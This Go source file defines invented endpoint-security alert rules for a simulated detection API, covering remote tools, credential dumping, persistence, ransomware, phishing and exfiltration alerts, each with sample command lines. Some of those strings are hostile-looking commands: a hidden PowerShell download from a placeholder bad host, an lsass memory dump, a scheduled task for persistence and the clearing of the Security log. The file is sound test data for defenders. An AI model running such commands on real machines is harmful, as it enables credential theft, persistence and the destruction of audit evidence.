package fakeapi

// rule is a detection rule: the texts of its alerts, and its finding. {user} and
// {host} are placeholders for those of the machine.
type rule struct {
	weight int // relative frequency
	id     string
	title  string

	category, severity, source string

	file, folder, command string
	description           string

	addresses, url string    // network detections
	ioc            [2]string // name and value of a custom indicator
	threat         *threat
}

// threat is the finding of Defender Antivirus.
type threat struct {
	category, family, name string
	action                 string // RemediationAction
	failed, executing      bool
}

const system32 = `C:\Windows\System32`

// rules are invented, including the command lines: with copies of real ones, the
// antivirus of a developer's machine could flag this file.
var rules = [...]rule{
	{weight: 14, id: "0c9a4e52-61d7-4b0e-9a3b-7d5c20f1e684", title: "Remote support tool started",
		category: "SuspiciousActivity", severity: "Informational", source: "EDR",
		file: "quickhelp.exe", folder: `C:\Program Files (x86)\QuickHelp`,
		command: `"C:\Program Files (x86)\QuickHelp\quickhelp.exe" --session 48-113-920 --unattended`,
		description: "A remote support tool was started on {host} by {user}. Such tools are used by help desks, and by " +
			"attackers who talked a user into installing one.\r\nCheck that a ticket exists for this session."},
	{weight: 9, id: "5fb1d3a0-8e27-4c49-b6d2-1a90c7e4f35b", title: "Discovery of accounts and groups",
		category: "Discovery", severity: "Low", source: "EDR",
		file: "net.exe", folder: system32, command: `net  group "Domain Admins" /domain`,
		description: "Built-in tools listed members of privileged groups on {host}.\r\n\r\nCommands seen:\r\n" +
			"\tnet group \"Domain Admins\" /domain\r\n\twhoami /all\r\n\tnltest /dclist:"},
	{weight: 9, id: "a4e2c871-3d96-4f1b-8c05-92b7e60d1f4a", title: "PowerShell fetched and ran a script",
		category: "Execution", severity: "Medium", source: "EDR",
		file: "powershell.exe", folder: system32 + `\WindowsPowerShell\v1.0`,
		command: `powershell.exe -w hidden -File "C:\Users\{user}\stage.ps1" -Url 'https://files.badhost.example/s?id=1&u={user}'`,
		description: "powershell.exe on {host} ran a script that downloads other scripts and runs them from memory. " +
			"The window was hidden (\"-w hidden\").\r\nParent process: C:\\Windows\\explorer.exe → cmd.exe → powershell.exe"},
	{weight: 3, id: "d72f0b96-4c18-4ea5-93f7-08e1b5a6c23d", title: "Memory of the security authority process was read",
		category: "CredentialAccess", severity: "High", source: "EDR",
		file: "memcopy.exe", folder: `C:\Windows\Temp`,
		command: `"C:\Windows\Temp\memcopy.exe" --process 712 --out C:\Windows\Temp\~df41.tmp`,
		description: "A process on {host} wrote the memory of lsass.exe to a file. Passwords and tickets of everybody who " +
			"signed in there, {user} included, must be taken as known to the attacker.\r\n\r\nIsolate the device first. ⚠️"},
	{weight: 6, id: "1e86f5c4-b03d-47a2-ae91-64d2f7c0859b", title: "Scheduled task runs a program from a temporary folder",
		category: "Persistence", severity: "Medium", source: "EDR",
		file: "schtasks.exe", folder: system32,
		command: `schtasks /create /sc minute /mo 30 /tn "Updater\{user}" /tr "C:\Users\{user}\AppData\Local\Temp\up.cmd" /f`,
		description: "A scheduled task was created on {host} that starts a script in a folder which every program of " +
			"{user} can write to.\r\nTask: \\Updater\\{user}\r\nAction: C:\\Users\\{user}\\AppData\\Local\\Temp\\up.cmd"},
	{weight: 4, id: "73c05ad1-e9f2-4b68-85a4-2f1d9ce6b07e", title: "Security event log was cleared",
		category: "DefenseEvasion", severity: "Low", source: "EDR",
		file: "wevtutil.exe", folder: system32, command: `wevtutil.exe cl Security`,
		description: "The Security event log of {host} was cleared. Journal effacé par {user}; ログが消去されました。"},
	{weight: 2, id: "e05d92b7-7a41-4c3f-b8e6-d1f4032a6c95", title: "Service installed from another machine",
		category: "LateralMovement", severity: "High", source: "EDR",
		file: "services.exe", folder: system32,
		command:   `C:\Windows\svc-7f3a.exe --once "ipconfig /all" > \\{host}\ADMIN$\Temp\o.txt 2>&1`,
		addresses: "10.21.4.33;10.22.0.131",
		description: "A service was installed on {host} over SMB and removed again within a minute.\r\n" +
			"Source addresses: 10.21.4.33; 10.22.0.131\r\nShare: \\\\{host}\\ADMIN$"},
	{weight: 5, id: "98ba6f03-25ce-4d71-9f0a-b3e748c1d562", title: "Office document started a script host",
		category: "InitialAccess", severity: "Medium", source: "EDR",
		file: "wscript.exe", folder: system32,
		command: `wscript.exe "C:\Users\{user}\Téléchargements\Facture n°2471 – relancé.js"`,
		description: "WINWORD.EXE on {host} started wscript.exe with a script from a downloaded archive.\r\n" +
			"Document: C:\\Users\\{user}\\Téléchargements\\Facture n°2471.docm"},
	{weight: 4, id: "46d1e8fa-90b5-4327-a7cd-5e2b0f3c918d", title: "Beacon-like connections to a rare host",
		category: "CommandAndControl", severity: "Low", source: "EDR",
		file: "svchost.exe", folder: `C:\ProgramData\Intel`, command: `"C:\ProgramData\Intel\svchost.exe" -k netsvcs`,
		addresses: "198.51.100.77;2001:db8:c2::77", url: "https://cdn-7f3.badhost.example/u/ping;https://badhost.example/t",
		description: "A program on {host} connects every 61 seconds to a host that no other device of the organisation has " +
			"talked to in 30 days."},
	{weight: 16, id: "b9370c6e-1fd4-4a8b-92e5-c60a7d81f243", title: "An infected file was found and blocked",
		category: "Malware", severity: "Informational", source: "Antivirus",
		file: "invoice_2471.exe", folder: `C:\Users\{user}\Downloads`,
		description: "Antivirus found 'Quillbear' malware on {host} and kept it from running.\r\n" +
			"The file was moved to quarantine; no action is needed unless it comes back.",
		threat: &threat{category: "Trojan", family: "Quillbear", name: "Trojan:Win32/Quillbear.C!ml", action: "quarantine"}},
	{weight: 9, id: "2d5e7b18-c64a-4093-8fb1-e37a90d2c54f", title: "Unwanted software was detected",
		category: "UnwantedSoftware", severity: "Informational", source: "Antivirus",
		file: "Söner Toolbar (Setup).exe", folder: `D:\Installers\音楽 🎵`,
		description: "Antivirus detected potentially unwanted software on {host}: a browser toolbar that changes the " +
			"search page and comes with other installers.\r\nPath: D:\\Installers\\音楽 🎵\\Söner Toolbar (Setup).exe",
		threat: &threat{category: "Potentially Unwanted Software", family: "Tallbar", name: "PUA:Win32/Tallbar",
			action: "remove"}},
	{weight: 6, id: "f08c3d49-a721-4e65-bd03-7691f2c8e0ba", title: "A hacking tool was detected while it was running",
		category: "Malware", severity: "Low", source: "Antivirus",
		file: "kz64.exe", folder: `C:\Users\{user}\Desktop\tools`, command: `kz64.exe "sekur::all" exit`,
		description: "Antivirus detected a password-stealing tool on {host}, in a process that had already started.",
		threat: &threat{category: "HackTool", family: "Keyzat", name: "HackTool:Win64/Keyzat!dha",
			action: "quarantine", executing: true}},
	{weight: 2, id: "69e4a1d7-5b80-4cf2-9d36-0a8c7e5f13b2", title: "Ransomware could not be removed",
		category: "Ransomware", severity: "High", source: "Antivirus",
		file: "locknote.exe", folder: `\\srv-file-03\public\Überweisungen`, command: `locknote.exe -p \\srv-file-03\public -t 8`,
		description: "Antivirus detected ransomware on {host} that was encrypting files of a share; removing it failed.\r\n" +
			"Files end in \".lcknt\". {user} should be called \"now\", not mailed.",
		threat: &threat{category: "Ransom", family: "Locknote", name: "Ransom:Win32/Locknote.A",
			action: "remove", failed: true, executing: true}},
	{weight: 7, id: "3a7f9e20-d85b-4614-b0c7-f49e26a1d853", title: "A user opened a phishing page",
		category: "InitialAccess", severity: "Informational", source: "SmartScreen",
		url: "https://login.halvorsen-pike.example.badhost.example/?next=%2Fpayroll&lang=fr",
		description: "SmartScreen warned {user} on {host} of a page that imitates the organisation's own sign-in page. The user " +
			"turned back.\r\nIf the warning is ever overridden, reset the password."},
	{weight: 5, id: "84c2f6b1-09ed-4d57-a31c-b7e50d9f4a68", title: "Connection to an address from the custom indicator list",
		category: "CommandAndControl", severity: "Medium", source: "Custom TI",
		file: "chrome.exe", folder: `C:\Program Files\Google\Chrome\Application`, addresses: "203.0.113.199",
		ioc:         [2]string{"Feed 12 / exit nodes", "203.0.113.199"},
		description: "{host} connected to 203.0.113.199, an address that this organisation put on its own list."},
	{weight: 4, id: "c51b08e3-f297-4ab6-8e4d-19d3a06c7f85", title: "File from the custom indicator list",
		category: "General", severity: "Low", source: "Custom TI",
		file: "crackme.iso", folder: `E:\`, ioc: [2]string{"Feed 3 / file hashes", "crackme.iso"},
		description: "A file on {host} matches a hash of the organisation's own list. The file is on a removable drive."},
	{weight: 3, id: "07d9b4f5-ae13-4286-95cb-6e8f21c07d3a", title: "Large upload to a personal file share",
		category: "Exfiltration", severity: "Medium", source: "Custom detection",
		file: "msedge.exe", folder: `C:\Program Files (x86)\Microsoft\Edge\Application`, url: "https://share.example.net/up/9c1",
		description: "{user} uploaded 4.2 GB from {host} within ten minutes.\r\nQuery: DeviceNetworkEvents | where RemoteUrl has " +
			"\"share.example.net\" | summarize sum(Bytes) by bin(Timestamp, 10m)"},
}
